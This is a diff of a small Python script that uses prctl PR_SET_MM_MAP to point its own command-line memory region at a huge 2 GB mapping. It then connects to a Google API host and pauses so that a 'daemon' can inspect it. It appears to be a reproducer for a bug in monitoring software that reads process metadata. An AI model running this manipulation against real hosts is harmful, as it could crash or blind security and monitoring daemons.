@@ -4,8 +4,9 @@ import ctypes
 import mmap
 import socket
 import struct
+import time
 
-PR_SET_MM, PR_SET_MM_MAP, PR_SET_MM_MAP_SIZE = 35, 14, 15
+PR_SET_MM, PR_SET_MM_MAP = 35, 14
 LENGTH = 2 << 30
 MAP_NORESERVE = 0x4000
 
@@ -23,10 +24,10 @@ brk = libc.sbrk
 brk.restype = ctypes.c_void_p
 brk = brk(0)
 mapping = struct.pack(
-    "11QQQIi",
+    "12QIi",
     start_code, end_code, start_data, end_data, start_brk, brk, start_stack,
     start, start + LENGTH, start, start + 1,
-    0, 0, 0, -1,
+    0, 0, -1,
 )
 buffer = ctypes.create_string_buffer(mapping, len(mapping))
 pack = [ctypes.c_ulong(it) for it in (PR_SET_MM_MAP, ctypes.addressof(buffer), len(mapping), 0)]
@@ -42,3 +43,5 @@ with socket.create_connection(("sqladmin.googleapis.com", 443)) as stream:
     stream.settimeout(20)
     stream.sendall(b"x" * 100)
     stream.recv(100)
+    # The daemon asks who it was.
+    time.sleep(3)
